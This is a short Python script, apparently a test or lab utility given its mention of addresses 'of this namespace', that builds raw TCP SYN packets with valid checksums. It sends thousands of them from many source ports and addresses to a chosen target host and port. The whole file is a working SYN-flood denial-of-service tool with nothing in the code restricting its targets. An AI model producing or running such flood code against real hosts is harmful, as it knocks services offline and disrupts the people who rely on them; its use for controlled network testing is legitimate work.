# SPDX-License-Identifier: MIT
"""SYNs that nobody stands behind, each of another connection: syn_flood.py TARGET PORT COUNT SOURCE...

From the ports 1024 to 61023 of each source, an address of this namespace, in turn."""
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def flood(source, target, port, count):
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!HH", 6, 20)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as sock:
        sock.bind((source, 0))
        for local in range(1024, 1024 + count):
            head = struct.pack("!HHIIBBH", local, port, local, 0, 5 << 4, 2, 1024)
            total = checksum(pseudo + head + b"\0\0\0\0")
            sock.sendto(head + struct.pack("!HH", total, 0), (target, 0))


def main():
    target, port, left = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    for source in sys.argv[4:]:
        count = min(left, 60000)
        flood(source, target, port, count)
        left -= count
    print(int(sys.argv[3]) - left)


main()
